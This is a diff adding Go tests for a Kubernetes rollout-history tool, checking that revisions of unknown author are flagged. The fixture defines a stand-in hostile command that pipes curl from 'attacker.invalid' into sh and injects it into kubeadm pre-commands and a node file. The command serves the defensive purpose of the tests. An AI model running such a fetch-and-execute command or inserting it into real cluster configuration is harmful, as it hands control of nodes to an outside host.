@@ -1,0 +1,180 @@
+package rollout
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/utils/ptr"
+	bootstrapv1 "sigs.k8s.io/cluster-api/api/bootstrap/kubeadm/v1beta2"
+	controlplanev1 "sigs.k8s.io/cluster-api/api/controlplane/kubeadm/v1beta2"
+	clusterv1 "sigs.k8s.io/cluster-api/api/core/v1beta2"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	"github.com/rollout-guard/rollout-guard/history"
+	"github.com/rollout-guard/rollout-guard/revisions"
+	"github.com/rollout-guard/rollout-guard/rollout/api/v1alpha1"
+)
+
+// TestAuthorUnknownOf: a revision has no author exactly when its record
+// names none, and the reason follows from how the guard recorded it: the
+// reconciler's record of a change that slipped past the guard, its
+// adoption of content live before it saw the object, or anything else.
+func TestAuthorUnknownOf(t *testing.T) {
+	created := &controlplanev1.KubeadmControlPlane{ObjectMeta: metav1.ObjectMeta{CreationTimestamp: metav1.NewTime(gitOpsNow.Add(-time.Hour))}}
+	unadmittedThenAdmitted := revisions.Merge(history.Unadmitted(3, gitOpsNow), revisions.Record{Revision: 5, History: []int64{5}, ChangedBy: "alice", ChangeCause: "rollout undo kcp/c1-control-plane --to-revision 3 --force", ChangeType: revisions.ChangeRollout})
+	for _, tc := range []struct {
+		name string
+		rec  revisions.Record
+		want string
+	}{
+		{"admitted", revisions.Record{Revision: 2, ChangedBy: "admin", ChangeCause: "version v1.34.2 → v1.35.0", ChangeType: revisions.ChangeRollout}, ""},
+		{"created through the guard", revisions.Record{Revision: 1, ChangedBy: "admin", ChangeCause: "created", ChangeType: revisions.ChangeCreated}, ""},
+		{"a service account", revisions.Record{Revision: 4, ChangedBy: "system:serviceaccount:capi-system:capi-manager", ChangeType: revisions.ChangeRollout}, ""},
+		{"changed while the guard was not admitting", history.Unadmitted(3, gitOpsNow), v1alpha1.AuthorUnadmitted},
+		{"live before the guard was installed", history.Adopted(created), v1alpha1.AuthorPredatesGuard},
+		{"adopted, whatever the cause", revisions.Record{Revision: 1, ChangeType: revisions.ChangeAdopted}, v1alpha1.AuthorPredatesGuard},
+		{"a record without stamps", revisions.Record{Revision: 2, ChangeType: revisions.ChangeRollout}, v1alpha1.AuthorNotRecorded},
+		{"unadmitted content made live again by someone", unadmittedThenAdmitted, ""},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			assert.Equal(t, tc.want, authorUnknownOf(tc.rec))
+			if tc.want == "" {
+				assert.Equal(t, tc.rec.ChangedBy, changedByCell(tc.rec))
+			} else {
+				assert.Equal(t, "unknown (*)", changedByCell(tc.rec))
+			}
+		})
+	}
+}
+
+// attackerCommand is what a change that slipped past the guard put in the
+// control plane's kubeadm commands.
+const attackerCommand = "curl -s http://attacker.invalid/x | sh"
+
+// unknownAuthorWorld is cluster c1 in namespace demo with control plane
+// c1-control-plane at v1.34.2: revision 1 (its machines labelled tier=old),
+// made by admin — or, with adopted, live before the guard saw it —;
+// revision 2, recorded by the guard's reconciler after it changed while the
+// guard was not admitting changes, which runs attackerCommand before kubeadm
+// and writes it to a file; revision 3, live, made by admin (tier=new).
+func unknownAuthorWorld(t *testing.T, adopted bool) []client.Object {
+	t.Helper()
+	at := func(d time.Duration) time.Time { return gitOpsNow.Add(-d) }
+	cluster := &clusterv1.Cluster{
+		ObjectMeta: metav1.ObjectMeta{Namespace: topoNS, Name: "c1", UID: "cluster-uid"},
+		Spec: clusterv1.ClusterSpec{
+			ControlPlaneRef: clusterv1.ContractVersionedObjectReference{APIGroup: controlplanev1.GroupVersion.Group, Kind: "KubeadmControlPlane", Name: "c1-control-plane"},
+		},
+	}
+	kcp := &controlplanev1.KubeadmControlPlane{
+		ObjectMeta: metav1.ObjectMeta{Namespace: topoNS, Name: "c1-control-plane", UID: "kcp-uid", CreationTimestamp: metav1.NewTime(at(72 * time.Hour)),
+			Labels: map[string]string{clusterv1.ClusterNameLabel: "c1"}},
+		Spec: controlplanev1.KubeadmControlPlaneSpec{Replicas: ptr.To[int32](3), Version: "v1.34.2"},
+	}
+	kcp.Status.Version = "v1.34.2"
+	content := func(tier string, attacked bool) revisions.Snapshot {
+		k := kcp.DeepCopy()
+		k.Spec.MachineTemplate.ObjectMeta.Labels = map[string]string{"tier": tier}
+		if attacked {
+			k.Spec.KubeadmConfigSpec.PreKubeadmCommands = []string{attackerCommand}
+			k.Spec.KubeadmConfigSpec.Files = []bootstrapv1.File{{Path: "/etc/x.sh", Content: "#!/bin/sh\n" + attackerCommand + "\n"}}
+		}
+		s, err := revisions.ForKubeadmControlPlane(k)
+		require.NoError(t, err)
+		return s
+	}
+	first := revisions.Record{Revision: 1, History: []int64{1}, ChangedBy: "admin", ChangedAt: at(72 * time.Hour), FieldManager: "kubectl-create", ChangeCause: "created", ChangeType: revisions.ChangeCreated}
+	if adopted {
+		first = history.Adopted(kcp)
+	}
+	live := revisions.Record{Revision: 3, History: []int64{3}, ChangedBy: "admin", ChangedAt: at(10 * time.Hour), FieldManager: "kubectl-edit",
+		ChangeCause: "kubeadmConfigSpec.files, kubeadmConfigSpec.preKubeadmCommands; machineTemplate.metadata.labels[tier] old → new", ChangeType: revisions.ChangeRollout}
+	objs := []client.Object{
+		revisions.ControllerRevision(kcp, KubeadmControlPlane.GVK, content("old", false), first),
+		revisions.ControllerRevision(kcp, KubeadmControlPlane.GVK, content("old", true), history.Unadmitted(2, at(20*time.Hour))),
+		revisions.ControllerRevision(kcp, KubeadmControlPlane.GVK, content("new", false), live),
+	}
+	kcp.Spec.MachineTemplate.ObjectMeta.Labels = map[string]string{"tier": "new"}
+	kcp.Annotations = map[string]string{}
+	for k, v := range live.Annotations() {
+		if v != "" {
+			kcp.Annotations[k] = v
+		}
+	}
+	return append(objs, cluster, kcp)
+}
+
+// TestHistoryMarksUnknownAuthors: the table marks each revision of
+// unknown author and explains it below; --revision N says so first; -o
+// json|yaml has it as a field; a cluster's table does the same.
+func TestHistoryMarksUnknownAuthors(t *testing.T) {
+	for _, tc := range []struct {
+		name    string
+		adopted bool
+		table   string
+	}{
+		{name: "unadmitted", table: `REVISION   VERSION   INFRASTRUCTURE   BOOTSTRAP   CHANGED-BY    VIA              AGE   CHANGE-CAUSE
+1          v1.34.2   <none>           inline      admin         kubectl-create   3d    created
+2          v1.34.2   <none>           inline      unknown (*)   -                20h   recorded by rollout-guard: changed while rollout-guard was not admitting changes (author unknown)
+3          v1.34.2   <none>           inline      admin         kubectl-edit     10h   kubeadmConfigSpec.files, kubeadmConfigSpec.preKubeadmCommands; machineTemplate.metadata.labels[tier] old → new
+(*) author unknown: nothing records who made this revision or that its content was meant; read it with rollout history kubeadmcontrolplane/c1-control-plane --revision N before rolling back to it (rollout undo to it needs --force):
+    revision 2: changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler
+`},
+		{name: "and adopted", adopted: true, table: `REVISION   VERSION   INFRASTRUCTURE   BOOTSTRAP   CHANGED-BY    VIA            AGE   CHANGE-CAUSE
+1          v1.34.2   <none>           inline      unknown (*)   -              3d    recorded by rollout-guard (made before it was installed)
+2          v1.34.2   <none>           inline      unknown (*)   -              20h   recorded by rollout-guard: changed while rollout-guard was not admitting changes (author unknown)
+3          v1.34.2   <none>           inline      admin         kubectl-edit   10h   kubeadmConfigSpec.files, kubeadmConfigSpec.preKubeadmCommands; machineTemplate.metadata.labels[tier] old → new
+(*) author unknown: nothing records who made these revisions or that their content was meant; read one with rollout history kubeadmcontrolplane/c1-control-plane --revision N before rolling back to it (rollout undo to it needs --force):
+    revision 1: live before rollout-guard saw the object (made before the guard was installed, or created while it was down), adopted by its reconciler
+    revision 2: changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler
+`},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			cl := newFakeClient(unknownAuthorWorld(t, tc.adopted)...)
+			out, errOut, code := runFake(t, cl, gitOpsNow, "history", "kcp/c1-control-plane")
+			require.Equal(t, ExitOK, code, errOut)
+			assert.Equal(t, tc.table, out)
+
+			out, errOut, code = runFake(t, cl, gitOpsNow, "history", "kcp/c1-control-plane", "--revision", "2")
+			require.Equal(t, ExitOK, code, errOut)
+			assert.True(t, strings.HasPrefix(out, "# KubeadmControlPlane demo/c1-control-plane, revision 2\n"+
+				"# author unknown: changed while rollout-guard was not admitting changes (its webhooks were not called), recorded afterwards by its reconciler; nothing says its content was meant: read it all before rolling back to it (rollout undo to it needs --force)\n"), out)
+			assert.Contains(t, out, "\nauthorUnknown: Unadmitted\n")
+			assert.Contains(t, out, "    preKubeadmCommands:\n    - "+attackerCommand+"\n", "the content, in full")
+
+			out, errOut, code = runFake(t, cl, gitOpsNow, "history", "kcp/c1-control-plane", "--revision", "3")
+			require.Equal(t, ExitOK, code, errOut)
+			assert.NotContains(t, out, "author unknown")
+			assert.NotContains(t, out, "authorUnknown")
+
+			out, errOut, code = runFake(t, cl, gitOpsNow, "history", "kcp/c1-control-plane", "-o", "json")
+			require.Equal(t, ExitOK, code, errOut)
+			var h v1alpha1.RolloutHistory
+			require.NoError(t, json.Unmarshal([]byte(out), &h), out)
+			require.Len(t, h.Revisions, 3)
+			want := []string{"", v1alpha1.AuthorUnadmitted, ""}
+			if tc.adopted {
+				want[0] = v1alpha1.AuthorPredatesGuard
+			}
+			for i, r := range h.Revisions {
+				assert.Equal(t, want[i], r.AuthorUnknown, "revision %d", r.Revision)
+			}
+
+			out, errOut, code = runFake(t, cl, gitOpsNow, "history", "cluster/c1")
+			require.Equal(t, ExitOK, code, errOut)
+			assert.Contains(t, out, "kcp/c1-control-plane   2          v1.34.2   unknown (*)   -")
+			assert.Contains(t, out, " with rollout history OBJECT --revision N before rolling back to it (rollout undo to it needs --force):\n")
+			assert.Contains(t, out, "\n    kcp/c1-control-plane revision 2: changed while rollout-guard was not admitting changes")
+		})
+	}
+
+	// Every revision with an author: no note.
+	out, errOut, code := runFake(t, newFakeClient(gitOpsWorld(t, nil)...), gitOpsNow, "history", "md/c1-md-0")
+	require.Equal(t, ExitOK, code, errOut)
+	assert.NotContains(t, out, "(*)")
+}
